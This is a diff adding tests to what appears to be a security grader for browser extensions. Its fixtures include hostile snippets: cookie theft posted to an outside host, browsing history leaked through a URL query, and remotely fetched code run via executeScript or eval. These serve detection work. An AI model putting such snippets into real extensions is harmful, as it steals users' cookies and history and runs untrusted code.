@@ -48,6 +48,15 @@ describe('files of the package', () => {
     expect(await grade(BACKGROUND, { ...files, 'page.html': page('type="module"') })).toMatch(/[CDF]/);
   });
 
+  it('are what a list of names asks for', async () => {
+    const put = (names: string): string =>
+      `let code = ''; const files = [${names}]; for (let n = 0; n < files.length; n++) code += $.ajax({ url: files[n], async: false }).responseText; chrome.tabs.executeScript({ code });`;
+    expect(await grade(BACKGROUND, { 'background.js': put("'js/one.js', 'js/two.js'") })).toMatch(/^A/);
+    expect(await grade(BACKGROUND, { 'background.js': put("'js/one.js', 'https://code.example/two.js'") })).toMatch(
+      /[DF]/,
+    );
+  });
+
   it('put their data into code between quotes', async () => {
     const draw = (hole: string): string =>
       `fetch(chrome.runtime.getURL('bell.png')).then((r) => r.text()).then((icon) => chrome.tabs.executeScript({ code: \`flip(${hole})\` }));`;
@@ -106,5 +115,72 @@ describe('cookies', () => {
     expect(await grade(onPages('one.js'), { 'one.js': read('cookie') })).toBe('F');
     // The background's own are not the page's.
     expect(await grade(BACKGROUND, { 'background.js': read('cookie') })).toMatch(/^A/);
+  });
+
+  it('may go back to the site of the tab that the extension opened', async () => {
+    const take = (tab: string): string =>
+      `async function ask() { const tab = await chrome.tabs.${tab}; const [{ result }] = await chrome.scripting.executeScript({ target: { tabId: tab.id }, func: () => document.cookie }); await fetch('https://api.mail.example/answer', { method: 'POST', headers: { token: result } }); } chrome.alarms.onAlarm.addListener(ask);`;
+    const all = (code: string) =>
+      grade({ ...BACKGROUND, permissions: ['scripting', 'alarms', 'tabs'] }, { 'background.js': code });
+    expect(await all(take("create({ url: 'https://www.mail.example/404' })"))).toMatch(/^A/);
+    expect(await all(take("create({ url: 'https://www.bank.example/' })"))).toMatch(/[DF]/);
+    expect(await all(take('query({ active: true })'))).toMatch(/[DF]/);
+  });
+});
+
+describe('what is kept', () => {
+  it('under a name made at run time is not what begins otherwise', async () => {
+    const send = (key: string): string =>
+      `chrome.history.search({ text: '' }, (all) => all.forEach((one, n) => localStorage.setItem('column.' + n, one.url))); const at = Date.now() % 7; fetch('https://weather.example/?q=' + localStorage.getItem('${key}.' + at));`;
+    const all = (code: string) => grade({ ...BACKGROUND, permissions: ['history'] }, { 'background.js': code });
+    expect(await all(send('options'))).toMatch(/^A/);
+    expect(await all(send('column'))).toMatch(/[DF]/);
+  });
+
+  it('is told apart in the properties of one object, too', async () => {
+    const open = (name: string): string =>
+      `const all = {}; for (let n = 1; n < 4; n++) fetch('https://lists.example/' + n).then((r) => r.text()).then((t) => { all['sites' + n] = t; }); chrome.webNavigation.onBeforeNavigate.addListener((d) => chrome.tabs.update(d.tabId, { url: all['${name}' + d.frameId] }));`;
+    const permissions = { ...BACKGROUND, permissions: ['webNavigation', 'tabs'] };
+    expect(await grade(permissions, { 'background.js': open('page') })).toMatch(/^A/);
+    expect(await grade(permissions, { 'background.js': open('sites') })).toMatch(/[DF]/);
+  });
+});
+
+describe('the server that the person chose', () => {
+  const OPTIONS = { options_page: 'options.html' };
+  const page = {
+    'options.html': '<input id="server"><script src="options.js"></script>',
+    'options.js': 'server.onchange = () => chrome.storage.sync.set({ server: server.value });',
+  };
+  const show = (from: string): string =>
+    `chrome.storage.sync.get('server', async ({ server }) => { const r = await fetch(${from} + '/note'); box.innerHTML = await r.text(); document.body.append(box); });`;
+  const on = (from: string) => ({ ...page, 'one.js': show(from) });
+
+  it('may write into pages', async () => {
+    expect(await grade({ ...onPages('one.js'), ...OPTIONS }, on('server'))).toMatch(/^[AB]/);
+    expect(await grade({ ...onPages('one.js'), ...OPTIONS }, on("'https://slots.example'"))).toMatch(/[DF]/);
+  });
+
+  it('is theirs in a project whose manifest the build makes', async () => {
+    const send =
+      "chrome.cookies.getAll({}, (all) => chrome.storage.sync.get('server', ({ server }) => fetch(server + '/import', { method: 'POST', body: JSON.stringify(all) })));";
+    const unbuilt = { 'wxt.config.ts': '', 'src/background.js': send };
+    const of = async (files: Readonly<Record<string, string>>): Promise<string> =>
+      (await analyze(memoryTree(files), { kind: 'extension' })).score.grade;
+    expect(await of({ ...unbuilt, ...page })).toMatch(/^A/);
+    expect(await of(unbuilt)).toMatch(/[CDF]/);
+  });
+});
+
+describe('a project’s own tools', () => {
+  it('are no part of the extension where nothing of it needs them', async () => {
+    const load =
+      "import fs from 'node:fs'; const r = await (await fetch('https://code.example/a.js')).text(); eval(r);";
+    const project = { 'package.json': '{}', 'background.js': 'import "./lib/keep.js";' };
+    expect(await grade(BACKGROUND, { ...project, 'scripts/client.js': load })).toMatch(/^A/);
+    expect(await grade(BACKGROUND, { ...project, 'vite.config.js': load })).toMatch(/^A/);
+    expect(await grade(BACKGROUND, { ...project, 'lib/keep.js': load })).toMatch(/[DF]/);
+    const needed = { ...project, 'background.js': 'import "./scripts/keep.js";', 'scripts/keep.js': load };
+    expect(await grade(BACKGROUND, needed)).toMatch(/[DF]/);
   });
 });
